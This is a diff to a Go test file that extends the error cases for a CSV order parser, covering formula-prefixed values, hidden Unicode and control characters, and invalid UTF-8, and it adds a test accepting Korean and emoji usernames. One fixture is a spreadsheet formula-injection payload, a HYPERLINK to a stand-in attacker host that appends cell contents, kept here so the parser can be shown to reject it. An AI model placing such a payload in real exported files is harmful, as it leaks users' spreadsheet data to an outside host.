@@ -37,7 +37,8 @@ var badOrderFiles = []struct {
 	{"missing column", "username,total_price,applied_year_month\na,1,2025-02\nb,2\n", "line 3: want 3 fields"},
 	{"extra column", "username,total_price,applied_year_month\na,1,2025-02,x\n", "line 2: want 3 fields"},
 	{"zero price", "username,total_price,applied_year_month\na,1,2025-02\nb,0,2025-02\n", "line 3: total_price: must be a positive integer"},
-	{"negative price", "username,total_price,applied_year_month\nb,-5,2025-02\n", "line 2: total_price: must be a positive integer"},
+	{"negative price", "username,total_price,applied_year_month\nb,-5,2025-02\n", "line 2: total_price: starts with '-' (a spreadsheet formula)"},
+	{"plus price", "username,total_price,applied_year_month\nb,+5,2025-02\n", "line 2: total_price: starts with '+' (a spreadsheet formula)"},
 	{"decimal price", "username,total_price,applied_year_month\nb,10.5,2025-02\n", `line 2: total_price: want a positive integer, got "10.5"`},
 	{"price overflow", "username,total_price,applied_year_month\nb,99999999999999999999,2025-02\n", "line 2: total_price"},
 	{"empty username", "username,total_price,applied_year_month\n,100,2025-02\n", "line 2: username: must not be empty"},
@@ -46,6 +47,17 @@ var badOrderFiles = []struct {
 	{"short month", "username,total_price,applied_year_month\na,100,25-02\n", "line 2: applied_year_month"},
 	{"duplicate in file", "username,total_price,applied_year_month\na,100,2025-02\nb,1,2025-02\na,7,2025-02\n", `line 4: user "a" already has a request for 2025-02 on line 2`},
 	{"bad quoting", "username,total_price,applied_year_month\n\"a,100,2025-02\n", "malformed CSV"},
+	{"right-to-left override", "username,total_price,applied_year_month\nkim,1,2025-02\nab\u202ecod,100,2025-02\n",
+		"line 3: username: contains a right-to-left override U+202E at character 3"},
+	{"invalid UTF-8", "username,total_price,applied_year_month\nkim\xff,100,2025-02\n", "line 2: username: contains an invalid UTF-8 byte 0xFF at character 4"},
+	{"replacement character", "username,total_price,applied_year_month\nkim\ufffd,100,2025-02\n", "line 2: username: contains a replacement character U+FFFD at character 4"},
+	{"zero width space", "username,total_price,applied_year_month\nki\u200bm,100,2025-02\n", "line 2: username: contains a zero width space U+200B at character 3"},
+	{"tab in username", "username,total_price,applied_year_month\nki\tm,100,2025-02\n", "line 2: username: contains a tab U+0009 at character 3"},
+	{"NUL in month", "username,total_price,applied_year_month\nkim,100,2025-02\x00\n", "line 2: applied_year_month: contains a NUL U+0000 at character 8"},
+	{"newline in quotes", "username,total_price,applied_year_month\n\"kim\njr\",100,2025-02\n", "line 2: username: contains a line feed U+000A at character 4"},
+	{"formula username", "username,total_price,applied_year_month\n\"=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\",100,2025-02\n",
+		"line 2: username: starts with '=' (a spreadsheet formula)"},
+	{"formula month", "username,total_price,applied_year_month\nkim,100,@SUM(A1)\n", "line 2: applied_year_month: starts with '@' (a spreadsheet formula)"},
 }
 
 func TestParseOrderCSV_BadFiles(t *testing.T) {
@@ -54,6 +66,18 @@ func TestParseOrderCSV_BadFiles(t *testing.T) {
 		_, _, err := parseOrderCSV(strings.NewReader(c.content))
 		require.ErrorContains(t, err, c.want, c.name)
 	}
+}
+
+// Korean and emoji usernames are text like any other.
+func TestParseOrderCSV_KoreanAndEmoji(t *testing.T) {
+	t.Parallel()
+	longest := strings.Repeat("\U0001F600", store.MaxUsernameLen)
+	reqs, _, err := parseOrderCSV(strings.NewReader("username,total_price,applied_year_month\n" +
+		"김철수,10000,2025-02\n홍길동 2세,500,2025-02\n이영희\U0001F600,700,2025-02\n\U0001F469\u200d\U0001F4BB,1,2025-02\n" +
+		`"` + longest + `",` + strings.Repeat("9", 18) + ",2025-02\n"))
+	require.NoError(t, err)
+	require.Equal(t, []string{"김철수", "홍길동 2세", "이영희\U0001F600", "\U0001F469\u200d\U0001F4BB", longest},
+		[]string{reqs[0].Username, reqs[1].Username, reqs[2].Username, reqs[3].Username, reqs[4].Username})
 }
 
 // The real binary: every bad file, flag or duplicate exits 2 with one line
